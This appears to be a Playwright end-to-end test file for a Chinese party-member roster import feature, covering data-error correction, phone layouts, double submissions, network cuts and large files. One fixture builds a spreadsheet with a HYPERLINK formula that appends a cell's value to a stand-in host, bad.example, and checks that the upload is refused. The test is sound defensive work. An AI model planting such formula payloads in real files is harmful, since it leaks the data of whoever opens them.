"""A roster on its way in: forty mistakes of forty kinds put right, files that are none, and everything that can come between."""

import re
import socket
import time
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from playwright.sync_api import Page, expect

from tests.cast import everything
from tests.databases import DataFolder
from tests.journeys import planted
from tests.journeys.conftest import Picture, Visitor, barriers, fill_in_sign_in, slides_sideways
from tests.journeys.planted import FIRST_PLANTED, IN_EXCEL, ON_THE_PAGE, PLANTED, Planted
from tests.journeys.test_refusals import let_rest, without_visits
from tests.servers import Server
from zerentian.journal.models import Entry
from zerentian.people.models import Membership, Person
from zerentian.rosters.models import ImportProblem, RosterImport

pytestmark = pytest.mark.journey
NARROW = (320, 390)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def template(autumn_template: DataFolder) -> DataFolder:
    return autumn_template


def choose(page: Page, data: bytes, name: str = "柳溪街道党员名册.xlsx") -> None:
    """The form, filled but for pressing the button."""
    page.goto("/rosters/")
    page.get_by_role("link", name="导入党员名册").click()
    page.get_by_label("名册文件").set_input_files({"name": name, "mimeType": XLSX, "buffer": data})


def send(page: Page, data: bytes, name: str = "柳溪街道党员名册.xlsx") -> None:
    choose(page, data, name)
    page.get_by_role("button", name="读这个文件").click()


def lead(page: Page) -> str:
    """The line under the title, without the blanks between numbers and units."""
    expect(page.locator("#progress")).to_have_count(0, timeout=60_000)
    return re.sub(r"\s", "", page.locator(".zt-lead").inner_text())


def brought(page: Page, data: bytes) -> None:
    """Read, and written at once."""
    send(page, data)
    page.get_by_role("button", name="写入").click()
    expect(page.get_by_text("文件里的内容已经从导入页清掉")).to_be_visible()


def settle(page: Page, row: int, each: Planted) -> None:
    field = page.locator(f'[name^="typed-{row}."]')
    ways = page.locator(f'select[name^="way-{row}."]')
    if each.typed and field.evaluate("each => each.tagName") == "SELECT":
        field.select_option(label=each.typed)
    elif each.typed:
        field.fill(each.typed)
    elif ways.count():
        ways.select_option(label=each.way)
    else:
        page.locator("tr[data-problem]").filter(has=page.locator(f'[name^="way-{row}."]')).get_by_text(each.way, exact=True).click()


def mended(file: Path) -> bytes:
    """The workbook with remarks after a clerk has gone through it."""
    book = openpyxl.load_workbook(file)
    sheet, heads = book.active, [cell.value for cell in book.active[1]]
    lines = {line[heads.index("姓名")].value: line for line in sheet.iter_rows(min_row=2)}
    for each in IN_EXCEL:
        assert any(cell.comment for cell in lines[each.name]), each.code
        for head, value in each.cells.items():
            lines[each.name][heads.index(head)].value = value or None
    again = BytesIO()
    book.save(again)
    return again.getvalue()


def test_forty_mistakes_are_listed_put_right_on_the_page_and_in_excel_and_written_once(
    visitor: Visitor, fresh_database: DataFolder, picture: Picture, tmp_path: Path
) -> None:
    page = visitor("zhenxiaohe")
    brought(page, planted.known())
    uids = dict(Person.objects.filter(name="束知雨").values_list("name", "uid"))
    send(page, planted.workbook(planted.rows_of(PLANTED, uids)))
    assert lead(page).startswith("读到41行；1行没有问题，▲40行有40处要改。")
    found = dict(ImportProblem.objects.values_list("row", "code"))
    assert found == {row: each.code for row, each in enumerate(PLANTED, start=FIRST_PLANTED)}
    assert len(set(found.values())) == 40
    expect(page.locator("tr[data-problem]")).to_have_count(40)
    picture(page, "forty")
    for row, each in enumerate(ON_THE_PAGE, start=FIRST_PLANTED):
        settle(page, row, each)
    picture(page, "half-filled")
    assert re.findall("[A-Za-z]{4,}", page.locator("main").inner_text().replace("Excel", "").replace("xlsx", "")) == ["aaaabbbbccccdddd"]
    page.get_by_role("button", name="存这一页的修改，重新核对").click()
    expect(page.get_by_role("status")).to_contain_text("存好了 20 处。")
    assert "▲20行有20处要改，2行不导入。" in lead(page)  # nobody's row, and the one that came twice
    assert set(ImportProblem.objects.values_list("code", flat=True)) == {each.code for each in IN_EXCEL}
    with page.expect_download() as download:
        page.get_by_role("link", name="带批注的 Excel").click()
    assert download.value.suggested_filename == "柳溪街道党员名册（带批注）.xlsx"
    download.value.save_as(tmp_path / "remarks.xlsx")
    right = mended(tmp_path / "remarks.xlsx")
    send(page, right, "改好的.xlsx")
    # 41 rows, of which two were left out on the page; four are people who were there before.
    assert lead(page).startswith("读到39行，没有问题。写入以后：新登记35名，更正0名，4名不变。")
    picture(page, "sound")
    before = Membership.objects.count()
    page.get_by_role("button", name="写入 35 行").click()
    assert lead(page) == "已写入柳溪街道党工委的党员名册：新登记35名，更正0名，4名没有变。"
    picture(page, "written")
    assert Membership.objects.count() == before + 35
    send(page, right, "改好的.xlsx")
    assert lead(page).startswith("读到39行，没有问题。写入以后：新登记0名，更正0名，39名不变。")
    expect(page.get_by_role("button", name="写入")).to_be_disabled()
    expect(page.get_by_text("和名册完全一样，没有可写入的")).to_be_visible()
    picture(page, "again")


def test_every_stage_fits_a_phone_and_bars_nobody(visitor: Visitor, fresh_database: DataFolder, picture: Picture) -> None:
    page = visitor("zhenxiaohe", "phone")
    page.goto("/rosters/")
    fits(page, picture, "none-yet")
    page.goto("/rosters/open/")
    fits(page, picture, "open")
    send(page, planted.workbook([["竺小溪", "正式党员", "无"]], ("姓名", "人员类别", "在哪里")))
    fits(page, picture, "columns")
    send(page, planted.workbook(planted.rows_of(PLANTED, {"束知雨": ""})))
    fits(page, picture, "problems")
    page.get_by_role("link", name=re.compile("^日期")).click()
    fits(page, picture, "one-group")
    brought(page, planted.known())
    fits(page, picture, "written")
    changed = [planted.in_order({"姓名": name, **said, "学历": "大专"}, 1) for name, said in planted.KNOWN]
    send(page, planted.workbook(changed))
    assert "更正4名" in lead(page)
    fits(page, picture, "changes")
    page.get_by_text("放弃这次导入").click()
    fits(page, picture, "give-up")
    page.get_by_role("button", name="放弃，都清掉").click()
    expect(page.get_by_role("status")).to_contain_text("这次导入已经放弃")
    fits(page, picture, "list")


def fits(page: Page, picture: Picture, step: str) -> None:
    for width in NARROW:
        page.set_viewport_size({"width": width, "height": 844})
        assert not slides_sideways(page), f"{step} at {width}"
    picture(page, step)
    assert barriers(page) == []


def with_a_formula() -> bytes:
    file = BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["姓名", "所在支部"])
    sheet.write_formula(1, 0, '=HYPERLINK("http://bad.example/"&B2)')
    book.close()
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "sentence"),
    [
        (with_a_formula(), "名册.xlsx", "选择性粘贴"),
        pytest.param(b"<html><table><tr><td>x</td></tr></table></html>", "名册.xls", "网页", marks=pytest.mark.soak),
        pytest.param(planted.known()[:3_000], "名册.xlsx", "打不开", marks=pytest.mark.soak),
        pytest.param(b"", "名册.csv", "空", marks=pytest.mark.soak),
    ],
    ids=["formula", "page", "torn", "empty"],
)
def test_a_hostile_or_broken_file_is_refused_at_its_field(
    visitor: Visitor, fresh_database: DataFolder, picture: Picture, request: pytest.FixtureRequest, data: bytes, name: str, sentence: str
) -> None:
    page = visitor("zhenxiaohe", "phone")
    before = everything()
    choose(page, data, name)
    page.get_by_label("名册截止日期").fill("2026-11-01")
    page.get_by_role("button", name="读这个文件").click()
    expect(page.locator("#id_file_error")).to_contain_text(sentence)
    expect(page.get_by_label("名册截止日期")).to_have_value("2026-11-01")
    picture(page, "refused")
    assert barriers(page) == []
    assert without_visits(everything()) == without_visits(before)


def test_a_double_press_takes_in_and_writes_once_and_the_way_back_shows_what_is(
    visitor: Visitor, fresh_database: DataFolder, picture: Picture
) -> None:
    page = visitor("zhenxiaohe")
    choose(page, planted.known())
    page.get_by_role("button", name="读这个文件").dblclick()
    expect(page.get_by_role("button", name="写入 4 行")).to_be_visible()
    assert RosterImport.objects.count() == 1
    page.get_by_role("button", name="写入 4 行").dblclick()
    expect(page.get_by_text("文件里的内容已经从导入页清掉")).to_be_visible()
    assert Entry.objects.filter(verb="roster.import").count() == 1
    assert Person.objects.filter(name="束知秋").count() == 1
    page.go_back()
    page.reload()
    assert page.get_by_role("button", name="写入").count() == 0
    picture(page, "back")


def test_a_network_cut_while_sending_loses_nothing_and_writes_nothing(visitor: Visitor, fresh_database: DataFolder) -> None:
    page = visitor("zhenxiaohe")
    before = everything()
    choose(page, planted.known())
    send_half(page)
    page.get_by_label("名册截止日期").fill("2026-11-01")
    page.context.set_offline(True)
    page.get_by_role("button", name="读这个文件").click()
    page.wait_for_timeout(300)
    page.context.set_offline(False)
    assert without_visits(everything()) == without_visits(before)
    assert not (fresh_database.folder / "logs" / "faults.log").exists()
    page.goto("/rosters/open/")
    expect(page.get_by_label("名册截止日期")).to_have_value("2026-11-01")
    page.get_by_label("名册文件").set_input_files({"name": "名册.xlsx", "mimeType": XLSX, "buffer": planted.known()})
    page.get_by_role("button", name="读这个文件").click()
    expect(page.get_by_role("button", name="写入 4 行")).to_be_visible()


def send_half(page: Page) -> None:
    """The form that stands on the page, cut off in the middle of its file."""
    host, _, port = page.url.split("/")[2].partition(":")
    names = ("csrfmiddlewaretoken", "submission", "kind", "organisation", "as_of")
    values = {name: page.locator(f"main form [name={name}]").first.input_value() for name in names}
    parts = "".join(f'--cut\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in values.items())
    file = f'--cut\r\nContent-Disposition: form-data; name="file"; filename="a.xlsx"\r\nContent-Type: {XLSX}\r\n\r\n'
    body = (parts + file).encode() + planted.known()
    cookies = "; ".join(f"{cookie['name']}={cookie['value']}" for cookie in page.context.cookies())  # type: ignore[typeddict-item]
    heads = f"POST /rosters/open/ HTTP/1.1\r\nHost: {host}:{port}\r\nCookie: {cookies}\r\nContent-Length: {len(body) + 99}\r\n"
    with socket.create_connection((host, int(port))) as wire:
        wire.sendall(f"{heads}Content-Type: multipart/form-data; boundary=cut\r\n\r\n".encode() + body[:-2_000])
    time.sleep(0.5)  # until the server has seen it


@pytest.mark.soak
def test_what_was_mended_is_there_after_a_rest_and_a_new_sign_in(
    visitor: Visitor, fresh_database: DataFolder, server: Server, picture: Picture
) -> None:
    page = visitor("zhenxiaohe")
    day, phone = ON_THE_PAGE[0], ON_THE_PAGE[5]
    send(page, planted.workbook(planted.rows_of([day, phone], {})))
    typed = page.locator('[name^="typed-3."]')
    typed.fill(day.typed)
    page.locator('[name^="typed-4."]').fill(phone.typed)
    let_rest(fresh_database)
    page.get_by_role("button", name="存这一页的修改，重新核对").click()
    expect(page.get_by_text("为了安全已退出，刚才填的还在")).to_be_visible()
    fill_in_sign_in(page, server, "zhenxiaohe")
    expect(typed).to_have_value(day.typed)
    expect(page.locator('[name^="typed-4."]')).to_have_value("")  # a number of a person is kept by no browser
    picture(page, "back")
    page.locator('[name^="typed-4."]').fill(phone.typed)
    page.get_by_role("button", name="存这一页的修改，重新核对").click()
    assert lead(page).startswith("读到3行，没有问题。")


@pytest.mark.soak
def test_of_a_word_typed_and_a_way_picked_the_later_counts(visitor: Visitor, fresh_database: DataFolder) -> None:
    page = visitor("zhenxiaohe")
    send(page, planted.workbook(planted.rows_of(ON_THE_PAGE[:1], {})))
    line, typed = page.locator("tr[data-problem]"), page.locator('[name^="typed-3."]')
    typed.fill("1980-06-30")
    line.get_by_label("留空").check()
    expect(typed).to_have_value("")
    typed.fill("1980-06-29")
    expect(line.get_by_label("留空")).not_to_be_checked()
    line.get_by_label("留空").check()
    line.get_by_text("留空", exact=True).click()  # let go again
    expect(line.get_by_label("留空")).not_to_be_checked()
    page.get_by_role("button", name="存这一页的修改，重新核对").click()
    expect(page.get_by_role("alert")).to_contain_text("没有改动。请先改，再存。")


def test_a_column_that_was_not_recognised_is_named_on_the_page(visitor: Visitor, fresh_database: DataFolder, picture: Picture) -> None:
    page = visitor("zhenxiaohe")
    send(page, planted.workbook([["岑溪一", "正式党员", planted.HERE]], ("姓名", "人员类别", "在哪里过组织生活")))
    assert "还不知道哪一列是所在组织" in lead(page)
    picture(page, "lacking")
    page.get_by_label("C 列当作").select_option(label="所在组织")
    page.get_by_role("button", name="存下列，重新核对").click()
    assert lead(page).startswith("读到1行，没有问题。写入以后：新登记1名")


@pytest.mark.slow
def test_a_large_file_is_worked_on_beside_the_page(visitor: Visitor, fresh_database: DataFolder, picture: Picture) -> None:
    page = visitor("zhenxiaohe")
    same = f"{planted.HERE},正式党员,1998-07-01,1999-07-01,云梭织造厂"
    rows = [f"岑{chr(0x4E00 + n)},19{60 + n % 20}-01-{1 + n % 28:02d},{same}" for n in range(5_000)]
    text = "姓名,出生年月日,所在支部,人员类别,入党时间,转正时间,工作单位\n" + "\n".join(rows)
    send(page, text.encode("gb18030"), "大名册.csv")
    expect(page.get_by_text("离开这一页也会接着做")).to_be_visible()
    picture(page, "reading")
    said = lead(page)  # the page turns by itself
    assert said.startswith("读到5,000行")
    picture(page, "checked")
